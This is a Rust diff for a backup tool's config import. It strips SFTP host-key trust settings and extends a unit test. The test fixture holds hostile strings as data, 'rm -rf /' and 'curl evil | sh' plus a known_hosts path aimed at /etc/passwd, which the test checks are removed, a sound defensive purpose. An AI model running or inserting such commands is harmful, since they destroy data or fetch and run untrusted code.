@@ -108,6 +108,20 @@ pub fn offer(text: &str, from_home: &Path, to_home: &Path) -> EngineResult<Setup
             }
         }
     }
+    // An SFTP server's key is confirmed on this device, into this device's known_hosts: a
+    // backup names neither another file to write keys into nor trust on first use.
+    if let Some(locations) = doc.get_mut("location").and_then(Item::as_table_like_mut) {
+        for (name, loc) in locations.iter_mut() {
+            let Some(loc) = loc.as_table_like_mut() else { continue };
+            for key in ["known_hosts", "known_hosts_file", "trust_new_host"] {
+                if loc.remove(key).is_some() {
+                    left_out.push(format!(
+                        "location {name}: {key} (this device confirms the server's key itself, into its own known_hosts)"
+                    ));
+                }
+            }
+        }
+    }
     if let Some(schedules) = doc.get_mut("schedule").and_then(Item::as_table_like_mut) {
         let names: Vec<String> = schedules.iter().map(|(k, _)| k.to_string()).collect();
         for name in names {
@@ -278,7 +292,7 @@ mod tests {
     #[test]
     fn commands_secrets_and_the_daemon_are_left_out_and_homes_mapped() {
         let text = "device_name = \"old\"\ndefault_location = \"nas\"\n[daemon]\nnotify_command = \"rm -rf /\"\n\
-                    [location.nas]\ntype = \"sftp\"\nhost = \"h\"\npassword = \"hunter2\"\n\
+                    [location.nas]\ntype = \"sftp\"\nhost = \"h\"\npassword = \"hunter2\"\nknown_hosts = \"/etc/passwd\"\n\
                     [unit.docs]\npaths = [\"/home/a/docs\", \"~/notes\"]\n\
                     [unit.evil]\npaths = [\"~/x\"]\nbefore_backup = \"curl evil | sh\"\n\
                     [schedule.nightly]\nevery = \"day\"\nunits = [\"evil\"]\n";
@@ -287,8 +301,9 @@ mod tests {
         assert!(o.schedules.is_empty());
         assert_eq!(o.locations[0].secrets, ["password"]);
         assert!(!o.text.contains("hunter2") && !o.text.contains("rm -rf") && !o.text.contains("curl"));
+        assert!(!o.text.contains("/etc/passwd"), "no other file to write host keys into: {}", o.text);
         assert!(o.text.contains("/home/b/docs") && o.text.contains("~/notes"), "{}", o.text);
-        assert_eq!(o.left_out.len(), 4, "{:?}", o.left_out);
+        assert_eq!(o.left_out.len(), 5, "{:?}", o.left_out);
     }
 
     #[test]
